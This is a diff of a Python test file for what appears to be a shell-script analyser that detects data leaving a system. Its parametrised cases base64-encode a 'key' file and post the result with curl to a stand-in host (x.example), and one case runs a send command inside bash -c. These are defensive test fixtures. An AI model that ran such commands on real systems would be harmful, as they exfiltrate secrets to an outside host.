@@ -80,6 +80,7 @@ def test_a_signature_that_the_sample_works_out_is_a_loss(signing: str, name: str
     [
         ('read A B <<< "$X"', "$A", "A"),
         ("set -- 1 2; shift $N", "$1", "ARGUMENT_1"),
+        ("A=1; for A in 2 3; do :", "$A", "A"),
         ("A=$(base64 < key)", "$A", "A"),
         ("A=$(openssl base64 < key)", "$A", "A"),
     ],
@@ -87,6 +88,10 @@ def test_a_signature_that_the_sample_works_out_is_a_loss(signing: str, name: str
 def test_what_no_rule_shows_is_a_variable(before: str, value: str, name: str) -> None:
     read = reading.read(Source("script", f'{before}; curl https://x.example/send -d "a={value}"'))
     assert read.request.body == f"a={stand_in(name)}".encode()
+
+
+def test_a_variable_of_one_command_is_seen_by_the_text_that_it_runs() -> None:
+    assert ids(f"""A=1; A=2 bash -c '{SEND} -d "text=$A"' """) == ["command-in-quotes"]
 
 
 def test_characters_are_taken_out_of_texts_and_never_out_of_names_of_variables() -> None:
